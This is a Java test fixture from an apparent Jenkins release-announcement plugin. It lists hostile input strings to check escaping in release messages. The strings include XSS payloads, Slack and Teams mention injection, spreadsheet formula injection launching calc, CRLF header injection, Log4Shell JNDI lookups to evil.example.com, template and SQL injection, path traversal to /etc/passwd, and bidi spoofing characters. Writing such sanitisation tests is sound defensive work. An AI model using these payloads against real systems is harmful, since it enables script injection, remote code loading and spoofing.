package io.jenkins.plugins.releasechecklist.engine.announce;

import java.net.URI;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;

/** Texts that somebody would write to make a message say or do something else. */
public final class Hostile {

    /** Turns the reading direction around. */
    public static final String RIGHT_TO_LEFT = "\u202E";

    public static final List<String> TEXTS = List.of(
            // Something of everything
            "x\r\nBcc: all@example.com\r\n\r\n<script>alert(1)</script>",
            "<!channel> <!here> <!everyone> <@U024BE7LH> <#C024BE7LR|general> @channel @here",
            "[click](javascript:alert(1)) ![image](https://evil.example.com/pixel.png)",
            "<https://evil.example.com|https://bank.example.com>",
            "](https://evil.example.com) [a `](https://evil.example.com)` b] **(https://evil.example.com)**",
            "<img src=x onerror=alert(1)> <a href=\"https://evil.example.com\">x</a> <at>Everybody</at> &lt;!here&gt;",
            RIGHT_TO_LEFT + "gnp.exe \u200Bhidden\u0000 \u0007",
            "🚀".repeat(200) + " é ا ש",
            "```\n<!channel>\n](https://evil.example.com)\n```",
            "> quoted <!here>\n\n1. [one](https://evil.example.com)\n\n# <@U024BE7LH>",
            "&".repeat(5000),
            "wide ".repeat(20_000),
            "x".repeat(100_000),
            "*_[`<".repeat(20_000),
            "> ".repeat(3000) + "deep",
            "%s%n ${jndi:ldap://evil.example.com/a} {{7*7}} \\n \\\\ |",
            // HTML
            "</title></style></script><script src=//evil.example.com/x.js></script>",
            "\"><svg onload=alert(1)>",
            "' onmouseover='alert(1)' style='background:url(https://evil.example.com)",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
            "<form action=https://evil.example.com><input name=q><button>Go</button></form>",
            "<!-- --!><script>alert(1)</script> --> <![CDATA[ ]]><?php echo 1 ?>",
            "<base href=https://evil.example.com><meta http-equiv=refresh content=0>",
            "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;img&#x3e;",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E <\u0000script>alert(1)</script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            // Markdown
            "[a](JaVaScRiPt:alert(1)) [b](data:text/html;base64,PHNjcmlwdD4=) [c](vbscript:x) [d](file:///etc/passwd)",
            "[x]\n\n[x]: javascript:alert(1) \"title\"",
            "<javascript:alert(1)> <data:text/html,x>",
            "[![a](https://evil.example.com/a.png)](javascript:alert(1))",
            "[a](<javascript:alert(1)>) [b](java\\\nscript:alert(1)) [c](&#106;avascript:alert(1))",
            "[a](https://evil.example.com \"onmouseover=alert(1)\") [b](https://evil.example.com/\"onclick=alert(1))",
            "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [c](javascript:x) |",
            "[^1] [^1]: <script>alert(1)</script>\n\n- [ ] <input type=checkbox onclick=alert(1)>",
            "# Released by <@U024BE7LH>\n===\n---\n***",
            "~~~html\n<script>alert(1)</script>\n~~~\n    <script>alert(1)</script>",
            "@octocat fixes #1 $\\href{javascript:alert(1)}{x}$ :tada: https://evil.example.com/@here",
            // Slack and Teams
            "<!subteam^SAZ94GDB8> <!date^1392734382^x^https://evil.example.com|y> &lt;!channel&gt; &amp;lt;!here&amp;gt;",
            "<mailto:all@example.com|https://bank.example.com> <tel:+1|x> <slack://open|x> <javascript:alert(1)|x>",
            "*bold _it ~st `co ```pre <!here>``` > &gt; <@U024BE7LH",
            "|<!everyone>|> <<!channel>> <https://evil.example.com|<!here>>",
            "<at id=\"all\">Everybody</at> {{DATE(2017-02-14T06:08:39Z, SHORT)}} [x](msteams://x) ![y](https://evil.example.com)",
            // Spreadsheets
            "=HYPERLINK(\"https://evil.example.com\",\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1\r\n=2+2;=3+3",
            "\",\"=1+1\",\"",
            "\uFF1D1+1 \u00A0=1",
            "x;=1+1;y",
            // JSON, YAML, properties
            "\"},\"status\":\"RELEASED\",{\"x\":\"",
            "\\\" \\u0022 \\ud800 \\x00 \\",
            "null",
            "{\"__proto__\":{\"a\":1}}",
            "*a &a !!python/object:os.system - : # |",
            "```json\n{\"context\":{\"id\":\"forged\",\"source\":\"https://evil.example.com\"}}\n```",
            // Headers and lines
            "a\nSubject: forged\n\nbody",
            "a\rX-Evil: 1\u0085X-Evil: 2\u2028X-Evil: 3\u2029X-Evil: 4\u000BX-Evil: 5",
            "=?utf-8?B?PHNjcmlwdD4=?= =?utf-8?Q?=0D=0ABcc:?=",
            "%0d%0aSet-Cookie:%20a=b",
            // Templates
            "${env.PASSWORD} #{7*7} $(id) `id` {secret} {title} {markdown} <%= 7*7 %> @{7*7} {0} '{1}'",
            "${${lower:j}ndi:ldap://evil.example.com/a} $$ $1 \\1 \\$0",
            // Characters
            "\uD800",
            "a\uDC00b\uD83D",
            "\u0000\u0001\u001B[31mred\u001B[0m\u007F\u009B31m",
            "\u2066\u2067\u202D\u202Eabc\u2069\u200E\u200F\u061C\uFEFF\u2060",
            "a\u0301\u0301\u0301".repeat(500),
            "\uFFFE\uFFFF\uFDD0\uDB7F\uDFFF",
            "\uDB40\uDC41\uDB40\uDC42 tags \uDB40\uDC7F",
            "../../../etc/passwd\u0000.txt ..\\..\\x C:\\x",
            "'; DROP TABLE releases; -- \" OR 1=1");

    private Hostile() {}

    /** Every text in every field that can hold it. */
    static Stream<Message> messages() {
        return TEXTS.stream().flatMap(text -> {
            String line = text.replaceAll("[\\r\\n]+", " ");
            return Stream.of(
                    message("Shop", "2.4.0", "minor", "RELEASED", "production", "Shop 2.4.0", text, "Checklist"),
                    message(text, text, text, text, text, line, text, text));
        });
    }

    private static Message message(
            String application,
            String version,
            String type,
            String status,
            String environment,
            String title,
            String markdown,
            String link) {
        return new Message(
                MessageEvent.RELEASE_ANNOUNCED,
                Messages.NOON,
                application,
                version,
                type,
                status,
                Optional.of(environment),
                "stakeholders",
                title,
                markdown,
                "<p>fragment</p>",
                Stream.generate(() -> new Link(link, URI.create("https://ci.example.com/job/shop/7/?a=1&b=2")))
                        .limit(20)
                        .toList());
    }
}
